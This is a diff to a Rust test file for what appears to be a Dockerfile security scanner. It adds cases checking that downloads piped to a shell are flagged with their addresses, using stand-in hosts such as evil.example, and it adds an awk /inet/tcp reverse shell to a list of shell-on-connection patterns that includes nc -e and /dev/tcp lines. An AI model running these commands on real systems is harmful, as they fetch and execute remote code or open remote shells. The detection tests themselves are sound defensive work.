@@ -102,6 +102,61 @@ fn a_downloaded_file_is_checked_before_it_is_run() {
 }
 
 #[test]
+fn each_address_of_a_download_that_is_run_is_told_by_itself_and_first() {
+    let told = |line: &str| -> Vec<String> {
+        let findings = judged(&format!("FROM debian\nRUN {line}\n"));
+        let ours = findings
+            .into_iter()
+            .filter(|one| matches!(&*one.rule, "ST400" | "ST401"));
+        ours.map(|finding| finding.message.split('`').nth(1).unwrap_or("-").to_owned())
+            .collect()
+    };
+    let (good, evil) = ("https://good.example/i.sh", "https://evil.example/i.sh");
+    for (line, addresses) in [
+        (format!("curl -e {good} -fsSL {evil} | sh"), vec![evil]),
+        (format!("curl --referer {good} -o j.sh {evil} && sh j.sh"), vec![evil]),
+        (format!("curl -fsSL {good} {evil} | sh"), vec![evil, good]),
+        (
+            format!("curl -fsSL {good} | sh; curl evil.example/i.sh | sh"),
+            vec!["evil.example/i.sh", good],
+        ),
+        (format!("wget --header='Referer: {good}' -qO- {evil} | sh"), vec![evil]),
+        (
+            format!("curl -H 'X: {good}' evil.example/i.sh | sh"),
+            vec!["evil.example/i.sh"],
+        ),
+        (
+            format!("curl -x evil.example:80 {good} | sh"),
+            vec!["evil.example:80", good],
+        ),
+        (
+            format!("curl --resolve good.example:443:192.0.2.1 {good} | sh"),
+            vec!["good.example:443:192.0.2.1", good],
+        ),
+        (format!("sh -c \"$(curl -fsSL {good}; curl {evil})\""), vec![evil, good]),
+        ("curl -K list | sh".into(), vec!["-"]),
+        (
+            format!("curl -o /a/x {good}; curl -o /b/x {evil}; cd /b; sh x"),
+            vec![evil, good],
+        ),
+        ("wget evil.example/z.sh && sh z.sh".into(), vec!["evil.example/z.sh"]),
+        ("curl -O evil.example/y.sh && sh y.sh".into(), vec!["evil.example/y.sh"]),
+        (format!("cat <(curl {evil}) | sh"), vec![evil]),
+        (format!("curl -o /dev/null {good} {evil} | sh"), vec![evil, good]),
+        (
+            format!("curl '{evil}`{good}' | sh"),
+            vec!["https://evil.example/i.sh'https://good.example/i.sh"],
+        ),
+        (format!("wget --progress=dot:giga -q {good} && sh i.sh"), vec![good]),
+        (format!("curl --retry 3 -fsSLo /x {good} && sh /x"), vec![good]),
+    ] {
+        let mut found = told(&line);
+        found.sort_unstable();
+        assert_eq!(found, addresses, "{line}");
+    }
+}
+
+#[test]
 fn a_file_that_an_earlier_step_of_the_stage_downloaded_is_known() {
     let ran = |steps: &str| {
         underlined(
@@ -231,6 +286,7 @@ fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
             "RUN x=$(nc 203.0.113.7 44); eval \"$x\"",
             "RUN bash <(cat </dev/tcp/203.0.113.7/44)",
             "RUN source /dev/tcp/203.0.113.7/44",
+            "RUN awk 'BEGIN { s = \"/inet/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
             "RUN cat < /dev/tcp/203.0.113.7/1 | sh",
             "RUN nc -e /bin/sh 203.0.113.7 4444",
             "RUN ncat 203.0.113.7 4444 --exec /bin/bash",
@@ -247,6 +303,7 @@ fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
         ],
         &[
             "RUN nc -z localhost 80",
+            "HEALTHCHECK CMD gawk 'BEGIN { s = \"/inet/tcp/0/localhost/80\"; s |& getline; close(s) }'",
             "RUN nc -zve host 80",
             "HEALTHCHECK CMD bash -c 'echo > /dev/tcp/127.0.0.1/80'",
             "RUN bash -c \"exec 3<>/dev/tcp/localhost/80\"",
